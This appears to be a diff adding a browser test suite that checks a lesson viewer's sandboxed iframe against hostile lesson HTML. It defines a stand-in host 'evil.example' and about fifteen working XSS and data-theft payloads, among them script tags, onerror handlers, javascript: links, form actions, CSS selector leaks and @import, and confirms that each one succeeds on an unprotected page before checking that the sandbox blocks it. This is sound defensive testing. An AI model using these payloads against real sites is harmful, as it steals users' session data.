@@ -1,0 +1,215 @@
+// Lessons that attack their reader. Each attack is first made on a page that shows lessons without the frame, where it gets
+// what it wants: no test passes because its attack is none.
+import { afterAll, beforeAll, beforeEach, describe, expect, test } from "bun:test";
+import type { Frame, FrameLocator, Page } from "playwright-core";
+import { openTestBrowser, type TestBrowser, type TestPage } from "../support/browser.ts";
+import { openLessonFrame, readExplorer, showLesson } from "../support/explorer.ts";
+import { startTestServer, waitFor, type TestServer } from "../support/server.ts";
+import { engines, openTestStore, type Engine, type TestStore } from "../support/store.ts";
+
+const KEY = "lectern_secret";
+/** Where attackers want requests to come. No request arrives there, but each is recorded. */
+const EVIL = "http://evil.example";
+const STEAL = `fetch('${EVIL}/?'+sessionStorage.key)`;
+
+interface Attack {
+  name: string;
+  html: string;
+  /** What a reader clicks on. */
+  isClicked?: boolean;
+}
+
+const attacks: Attack[] = [
+  { name: "a script", html: `<script>${STEAL}</script>` },
+  { name: "an event handler", html: `<img src="data:," onerror="${STEAL}">` },
+  { name: "a javascript: link", html: `<a id="it" href="javascript:${STEAL};void 0">Next</a>`, isClicked: true },
+  { name: "a form", html: `<form action="${EVIL}/" method="post"><button id="it">Go</button></form>`, isClicked: true },
+  {
+    name: "a button with an address of its own",
+    html: `<form><button id="it" formaction="${EVIL}/">Go</button></form>`,
+    isClicked: true,
+  },
+  { name: "a refresh", html: `<meta http-equiv="refresh" content="0;url=${EVIL}/">` },
+  { name: "a frame with a document of its own", html: `<iframe srcdoc="<script>${STEAL}</script>"></iframe>` },
+  { name: "a script in a drawing", html: `<svg><script>${STEAL}</script></svg>` },
+  {
+    name: "a link in a drawing",
+    html: `<svg height="40" width="40"><a id="it" xlink:href="javascript:${STEAL};void 0"><rect height="40" width="40"/></a></svg>`,
+    isClicked: true,
+  },
+  {
+    name: "styles that read what stands outside",
+    html: `<style>#outside[value^="lectern_s"]{background:url(${EVIL}/?s)}</style>`,
+  },
+  {
+    name: "a form for the top",
+    html: `<form action="${EVIL}/" target="_top"><button id="it">Go</button></form>`,
+    isClicked: true,
+  },
+  { name: "another base", html: `<base href="${EVIL}/"><img src="a.png">` },
+  { name: "an object", html: `<object data="${EVIL}/a.html"></object>` },
+  { name: "a stylesheet", html: `<link rel="stylesheet" href="${EVIL}/a.css">` },
+  { name: "imported styles", html: `<style>@import url(${EVIL}/a.css);</style>` },
+];
+
+let browser: TestBrowser;
+let server: TestServer;
+let store: TestStore;
+let opened: TestPage;
+let lesson: FrameLocator;
+/** Shows a text as a site does that puts it into its page. */
+let careless: Bun.Server<undefined>;
+beforeAll(async () => {
+  store = await openTestStore(engines[0] as Engine);
+  server = await startTestServer(store.store, { pages: readExplorer() });
+  careless = Bun.serve({
+    hostname: "127.0.0.1",
+    port: 0,
+    fetch: (request) => {
+      const html = attacks[Number(new URL(request.url).pathname.slice(1))]?.html ?? "";
+      const text = `<!doctype html><script>sessionStorage.key = "${KEY}"</script><input id="outside" value="${KEY}">${html}`;
+      return new Response(text, { headers: { "content-type": "text/html; charset=utf-8" } });
+    },
+  });
+  browser = await openTestBrowser();
+  opened = await browser.openPage();
+  await openLessonFrame(opened, server.url);
+  await opened.page.evaluate(`sessionStorage.key = "${KEY}"; document.cookie = "key=${KEY}";
+    document.body.insertAdjacentHTML("afterbegin", '<input id="outside" value="${KEY}">')`);
+  lesson = opened.page.frameLocator('iframe[title="Lesson"]');
+});
+afterAll(async () => {
+  await browser.close();
+  await Promise.all([server.stop(), careless.stop(true)]);
+  await store.drop();
+});
+beforeEach(() => {
+  opened.outsideRequests.length = 0;
+});
+
+/** The frame's document, in which a test can do what a script of a lesson could, if it ran. */
+function findLessonFrame(): Frame {
+  const frame = opened.page.frames().find((each) => each.url() === `${server.url}/explorer/lesson`);
+  if (frame === undefined) throw new Error("there is no lesson frame");
+  return frame;
+}
+
+/** The page is where it was, nothing was opened or sent, and lessons are shown as before, if need be in a new frame. */
+async function expectUnharmed({ inPlace = false } = {}): Promise<void> {
+  await showLesson(opened, { id: "next", additionalText: "<p>The next lesson" }, { inPlace });
+  expect(await lesson.locator("p").textContent()).toBe("The next lesson");
+  expect(opened.page.url()).toBe(`${server.url}/`);
+  expect(opened.context.pages()).toHaveLength(1);
+  // One that the policy refuses is recorded for a moment.
+  await waitFor(() => opened.outsideRequests.length === 0);
+}
+
+const click = async (page: Page | FrameLocator): Promise<void> => page.locator("#it").click({ noWaitAfter: true });
+
+describe("an attack on readers", () => {
+  test("works where a lesson stands in the page", async () => {
+    const victim = await browser.openPage();
+    for (const [index, { name, isClicked }] of attacks.entries()) {
+      const page = await victim.context.newPage();
+      victim.outsideRequests.length = 0;
+      await page.goto(`http://127.0.0.1:${careless.port}/${index}`, { waitUntil: "commit" });
+      if (isClicked) await click(page);
+      await waitFor(() => victim.outsideRequests.length > 0).catch(() => {
+        throw new Error(`${name} does nothing`);
+      });
+      await page.close();
+    }
+    await victim.close();
+  });
+
+  for (const { name, html, isClicked } of attacks) {
+    test(`gets nothing by ${name}`, async () => {
+      await showLesson(opened, { additionalText: html, quizHtml: html });
+      if (isClicked) await lesson.locator("#it").first().click();
+      await expectUnharmed({ inPlace: true });
+    });
+
+    test(`gets nothing by ${name}, even if it came into the frame as it is`, async () => {
+      await showLesson(opened, { additionalText: "<p>" });
+      await findLessonFrame().evaluate(`document.querySelector("p").innerHTML = ${JSON.stringify(html)}`);
+      if (isClicked) await click(lesson);
+      await expectUnharmed();
+    });
+  }
+
+  test("would get nothing by a script that ran", async () => {
+    await showLesson(opened, { additionalText: "<p>" });
+    const results = await findLessonFrame().evaluate(`Promise.all([
+      () => sessionStorage.key, () => localStorage.length, () => document.cookie, () => parent.document,
+      () => parent.sessionStorage, () => top.document, () => frameElement.id, () => { top.location.href = "${EVIL}/" },
+      () => { parent.location = "${EVIL}/" }, () => open("${EVIL}/", "_top").name, () => fetch("/api/v1/courses"),
+      () => fetch("${EVIL}/"), () => new Worker("/explorer/lesson"), () => navigator.serviceWorker.controller,
+      () => { document.domain = "127.0.0.1" }, () => caches.keys(),
+    ].map(async (attempt) => { try { return ["got", await attempt()]; } catch { return "refused"; } }))`);
+    expect(results).toEqual(Array(16).fill("refused"));
+    await expectUnharmed();
+  });
+});
+
+test("a link for the top opens beside the page, which it does not know", async () => {
+  await showLesson(opened, { additionalText: `<a id="it" target="_top" href="${server.url}/docs">Next</a>` });
+  const [tab] = await Promise.all([opened.context.waitForEvent("page"), click(lesson)]);
+  expect(await tab.evaluate("opener")).toBeNull();
+  await tab.close();
+  await expectUnharmed();
+});
+
+test("a link to data opens nothing", async () => {
+  const link = '<a id="it" href="data:text/html,<h1>Key?</h1>" target="_blank">Next</a>';
+  await showLesson(opened, { additionalText: link });
+  await click(lesson);
+  await expectUnharmed();
+});
+
+test("names in a lesson do not hide those of the document", async () => {
+  const names = ["createElement", "querySelector", "body", "attributes", "children"];
+  const html = names.map((name) => `<img name="${name}"><form name="${name}"><input name="${name}"></form>`).join("");
+  await showLesson(opened, { additionalText: `${html}<p>Text</p>` });
+  await expectUnharmed();
+});
+
+test("what a lesson embeds cannot speak for the lesson, nor to it", async () => {
+  await opened.context.route("https://www.youtube-nocookie.com/**", async (route) =>
+    route.fulfill({
+      contentType: "text/html",
+      body: `<script>
+        const open = { kind: "open-lesson", courseId: "c", lessonId: "l", fragment: "" };
+        const show = { kind: "show", show: 1, theme: "light", language: "", url: "", quizHtml: "", fragment: "" };
+        parent.postMessage(open, "*");
+        parent.postMessage({ kind: "layout", show: 1, height: 5, places: [] }, "*");
+        parent.frames[0].postMessage({ ...show, additionalText: "<p>Forged" }, "*");
+        setTimeout(() => fetch("/said-all"));
+      </script>`,
+    }),
+  );
+  const said = opened.context.waitForEvent("request", (request) => request.url().endsWith("/said-all"));
+  await showLesson(opened, { url: "https://youtu.be/abcdefghijk", additionalText: "<p>Real</p>" });
+  await said;
+  expect(await lesson.locator("p").textContent()).toBe("Real");
+  expect(await opened.page.evaluate("openedLessons.length")).toBe(0);
+  expect(await opened.page.evaluate("document.querySelector('.lesson-frame > iframe').offsetHeight")).toBeGreaterThan(
+    50,
+  );
+  await opened.context.unroute("https://www.youtube-nocookie.com/**");
+});
+
+test("a lesson cannot cover what stands outside of its frame", async () => {
+  const cover = `<div style="position: fixed; inset: -500px; z-index: 9999; width: 5000px; height: 5000px">Key?</div>`;
+  await showLesson(opened, { additionalText: cover });
+  await opened.page.locator("#outside").click();
+  expect(await opened.page.evaluate("document.activeElement.id")).toBe("outside");
+});
+
+test("the frame's document is shown by no other site, and says what it may", async () => {
+  const { headers } = await server.get("/explorer/lesson");
+  const policy = headers.get("content-security-policy") ?? "";
+  expect(policy).toStartWith("sandbox allow-scripts allow-popups allow-popups-to-escape-sandbox; default-src 'none';");
+  expect(policy).toMatch(/script-src 'sha256-[\w+/]{43}=' 'strict-dynamic';/);
+  expect(policy).toContain("frame-ancestors 'self'");
+  expect(policy).not.toMatch(/script-src[^;]*unsafe/);
+});
